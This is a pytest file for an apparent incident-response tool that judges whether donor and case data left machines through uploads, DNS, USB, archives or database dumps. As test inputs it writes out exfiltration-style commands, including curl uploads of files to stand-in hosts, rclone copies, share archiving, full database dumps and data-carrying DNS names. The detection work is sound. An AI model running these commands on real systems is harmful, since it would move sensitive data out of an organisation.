"""What leaves machines: commands, volumes, DNS, drives and databases are told, and everyday traffic is not."""

from __future__ import annotations

from typing import Any

import pytest

from support.assessed import assessed, at, gravest, intrusion, on_host
from support.events import event
from vigilia.impact.hits.file_trail import archive_names
from vigilia.impact.hits.flows import unusual
from vigilia.model.profile import DataClass

_BOTH = [
    DataClass(id=name.lower(), label=name, where=[f"share:\\\\FS01\\{name}", f"path:/srv/{name}", f"table:crm.{name}"])
    for name in ("Donors", "Cases")
]
_SEEN = intrusion(hosts=["WS07"], addresses=["203.0.113.66"])


def _flow(day: int, target: str, sent: int, hour: int = 10, port: int = 443) -> dict[str, Any]:
    return event(
        0,
        at=at(day, hour),
        vigilia__source="netflow",
        event__action="flow",
        source__ip="10.0.0.7",
        destination__ip=target,
        destination__port=port,
        source__bytes=sent,
    )


def _query(day: int, name: str, minute: int = 0) -> dict[str, Any]:
    return event(0, at=at(day, 10, minute), vigilia__source="dns.bind", event__action="query",
                 source__ip="10.0.0.7", dns__question__name=name)  # fmt: skip


def _everyday() -> list[dict[str, Any]]:
    rows = [_flow(day, "198.51.100.9", 40_000 + day * 1000, hour) for day in range(60) for hour in (8, 20)]
    rows += [_query(day, f"www{day % 3}.example") for day in range(60)]
    return rows + [on_host(day, "notepad.exe", host) for day in range(60) for host in ("WS07", "FS01")]


def _levels(intruder: list[dict[str, Any]], channel: str, more: list[dict[str, Any]] | None = None) -> tuple[str, str]:
    result = assessed([*_everyday(), *(more or [])], intruder, _BOTH, _SEEN)
    return gravest(result, "donors", channel).level, gravest(result, "cases", channel).level


def test_without_anything_unusual_the_channels_of_machines_are_silent() -> None:
    result = assessed(_everyday(), [], _BOTH, _SEEN)
    assert {row.level for row in result.impact if row.channel in ("c2-channel", "dns", "archive-staging")} == {"E3"}
    assert {row.level for row in result.impact if row.channel == "usb"} == {"E4"}, "no record would show a drive"


def test_bytes_to_an_address_of_the_intruder_are_a_control_channel_and_concern_what_was_packed() -> None:
    pack = on_host(22, "7z.exe a c:\\temp\\x.7z \\\\FS01\\Donors")
    sent = _flow(22, "203.0.113.66", 50_000_000, 12)
    assert _levels([pack], "c2-channel", [sent]) == ("E1", "E3")
    assert _levels([pack], "web-upload", [sent])[0] == "E3"
    assert _levels([pack], "archive-staging", [sent]) == ("E1", "E3")
    assert _levels([pack], "archive-staging") == ("E2", "E3")


def test_bytes_far_above_a_machines_past_to_a_new_address_stand_out_and_known_ones_do_not() -> None:
    pack = on_host(22, "rar.exe a c:\\temp\\x.rar \\\\FS01\\Donors")
    assert _levels([pack], "web-upload", [_flow(22, "198.51.100.77", 90_000_000, 12)]) == ("E1", "E3")
    assert _levels([pack], "web-upload", [_flow(22, "198.51.100.9", 90_000_000, 12)]) == ("E3", "E3")
    assert _levels([pack], "web-upload", [_flow(22, "198.51.100.77", 90_000, 12)]) == ("E3", "E3")


def test_a_destination_is_an_everyday_one_only_after_several_days() -> None:
    pack = on_host(22, "rar.exe a c:\\temp\\x.rar \\\\FS01\\Donors")
    sent = _flow(22, "198.51.100.77", 90_000_000, 12)
    once, often = ([_flow(day, "198.51.100.77", 90_000, 12) for day in days] for days in ([9], [5, 9, 12]))
    assert _levels([pack], "web-upload", [sent, *once])[0] == "E1"
    assert _levels([pack], "web-upload", [sent, *often])[0] == "E3"


def test_the_small_talk_of_a_control_channel_before_the_first_record_of_the_intruder_does_not_make_it_known() -> None:
    pack = on_host(22, "rar.exe a c:\\temp\\x.rar \\\\FS01\\Donors")
    connects = event(0, at=at(22, 11), vigilia__source="windows", event__code="3", event__action="3",
                     host__name="WS07", event__provider="Microsoft-Windows-Sysmon/Operational",
                     destination__ip="198.51.100.77", process__executable="C:\\Windows\\powershell.exe")  # fmt: skip
    talk = [_flow(day, "198.51.100.77", 5_000, 12) for day in range(8, 20)]
    assert _levels([pack, connects], "c2-channel", [*talk, _flow(22, "198.51.100.77", 90_000_000, 12)])[0] == "E1"
    assert _levels([pack, connects], "c2-channel", talk)[0] == "E3"


def test_bytes_sent_beside_an_upload_that_names_an_archive_are_that_upload() -> None:
    packs = [
        on_host(22, "7z a c:\\t\\a.7z \\\\FS01\\Donors", hour=8),
        on_host(22, "7z a c:\\t\\b.7z \\\\FS01\\Cases", hour=9),
        on_host(22, "rclone copy c:\\t\\a.7z store:in", hour=10),
    ]
    assert _levels(packs, "web-upload", [_flow(22, "198.51.100.77", 90_000_000, 10)]) == ("E1", "E3")


def test_what_was_carried_away_without_a_name_makes_everything_undeterminable() -> None:
    assert _levels([], "web-upload", [_flow(22, "198.51.100.77", 90_000_000, 12)]) == ("E4", "E4")


def test_an_upload_that_names_an_archive_concerns_what_went_into_it() -> None:
    packs = [on_host(21, "7z a c:\\t\\a.7z \\\\FS01\\Donors"), on_host(22, "7z a c:\\t\\b.7z \\\\FS01\\Cases")]
    send = on_host(23, "rclone copy c:\\t\\a.7z store:in")
    assert _levels([*packs, send], "web-upload") == ("E1", "E3")
    assert archive_names("curl -F file=@/tmp/x.tar.gz https://a.example/") == {"x.tar.gz"}


@pytest.mark.parametrize(
    ("line", "channel", "levels"),
    [
        ("tar czf /tmp/all.tgz /srv", "archive-staging", ("E2", "E2")),
        ("zip -r /tmp/d.zip /srv/donors", "archive-staging", ("E2", "E3")),
        ("curl -T /srv/donors/list.csv https://drop.example/", "web-upload", ("E1", "E3")),
        ("curl https://www.example/", "web-upload", ("E3", "E3")),
        ("pg_dump -t donors crm", "database-dump", ("E1", "E4")),
        ("mysqldump --all-databases", "database-dump", ("E1", "E1")),
        ("mysqldump crm cases", "database-dump", ("E4", "E1")),
        ("robocopy \\\\FS01\\Donors F:\\out /E", "usb", ("E1", "E4")),
    ],
)
def test_commands_concern_what_they_name(line: str, channel: str, levels: tuple[str, str]) -> None:
    assert _levels([on_host(22, line)], channel) == levels


def test_names_that_carry_data_are_told_and_everyday_names_are_not() -> None:
    pack = on_host(22, "7z a x.7z \\\\FS01\\Donors", hour=9)
    carried = [_query(22, f"{number:060d}.{number * 7:058d}.t.cdn.example", number) for number in range(59)]
    assert _levels([pack], "dns", carried) == ("E1", "E3")
    before = [_query(9, f"{number:060d}.t.cdn.example", number) for number in range(9)]
    assert _levels([pack], "dns", [*carried, *before]) == ("E1", "E3"), "once before is not every day"
    daily = [_query(day, "www.cdn.example") for day in range(5, 9)]
    assert _levels([pack], "dns", [*carried, *daily]) == ("E4", "E3")
    short = [_query(22, f"host{number}.cdn.example", number) for number in range(59)]
    assert _levels([pack], "dns", short) == ("E3", "E3")


def test_a_statement_that_copies_a_table_is_a_dump_of_that_table() -> None:
    def asked(day: int, text: str) -> dict[str, Any]:
        return event(0, at=at(day), vigilia__source="database.mysql", event__action="QUERY",
                     fields={"database": "crm", "object": text})  # fmt: skip

    background = [*_everyday(), *(asked(day, "SELECT name FROM donors WHERE id = 3") for day in range(60))]
    dump = asked(22, "SELECT /*!40001 SQL_NO_CACHE */ * FROM `donors`")
    result = assessed(background, [dump], _BOTH, _SEEN)
    assert gravest(result, "donors", "database-dump").level == "E1"
    assert gravest(result, "cases", "database-dump").level == "E3"


def test_a_day_is_held_against_the_machines_own_days() -> None:
    assert unusual(100_000_000, [40_000, 50_000, 60_000]) > 5
    assert unusual(100_000_000, [90_000_000, 110_000_000]) < 1
    assert unusual(100_000_000, []) > 3


def test_a_sensor_whose_dns_log_fails_says_nothing_of_that_time_though_its_other_logs_go_on() -> None:
    def sensor(day: int, hour: int, kind: str, **columns: Any) -> dict[str, Any]:
        return event(0, at=at(day, hour), vigilia__source="zeek", event__action=kind, event__provider=kind,
                     source__ip="10.0.0.7", **columns)  # fmt: skip

    times = [(day, hour) for day in range(60) for hour in range(0, 24, 3)]
    flows = [sensor(*one, "conn", source__bytes=900, destination__ip="198.51.100.9") for one in times]
    names = [sensor(*one, "dns", dns__question__name="a.www.example") for one in times if not 25 <= one[0] < 28]
    rows = [row for row in assessed([*flows, *names], [], _BOTH, _SEEN).impact if row.data_class == "donors"]
    assert [row.level for row in rows if row.channel == "dns"] == ["E3", "E4", "E3"]
    # While one of its logs is told to be missing, the sensor as a whole may be doubted; not before and after.
    flows_say = [row.level for row in rows if row.channel == "c2-channel"]
    assert (flows_say[0], flows_say[-1]) == ("E3", "E3")


def test_a_sensors_records_of_web_requests_do_not_vouch_for_all_connections() -> None:
    def sensor(day: int, kind: str) -> dict[str, Any]:
        return event(0, at=at(day), vigilia__source="zeek", event__action=kind, event__provider=kind,
                     source__ip="10.0.0.7", source__bytes=900, destination__ip="198.51.100.9")  # fmt: skip

    machines = [on_host(day, "notepad.exe", host) for day in range(60) for host in ("WS07", "FS01")]
    for kind, level in (("http", "E4"), ("conn", "E3")):
        result = assessed([*machines, *(sensor(day, kind) for day in range(60))], [], _BOTH, _SEEN)
        assert [gravest(result, "donors", way).level for way in ("web-upload", "c2-channel")] == [level, level]


def test_a_flow_to_where_the_intruders_programs_connect_is_no_upload_even_beside_one() -> None:
    packs = [
        on_host(22, "7z a c:\\t\\a.7z \\\\FS01\\Donors", hour=8),
        on_host(22, "rclone copy c:\\t\\a.7z store:in", hour=9),
    ]
    connects = event(0, at=at(22, 9), vigilia__source="windows", event__code="3", event__action="3", host__name="WS07",
                     event__provider="Microsoft-Windows-Sysmon/Operational", destination__ip="198.51.100.77",
                     process__executable="C:\\Windows\\powershell.exe")  # fmt: skip
    assert _levels([*packs, connects], "c2-channel", [_flow(22, "198.51.100.77", 90_000_000, 9)])[0] == "E1"
    tool = connects | {"process.executable": "C:\\t\\rclone.exe"}
    assert _levels([*packs, tool], "c2-channel", [_flow(22, "198.51.100.77", 90_000_000, 9)])[0] == "E3"
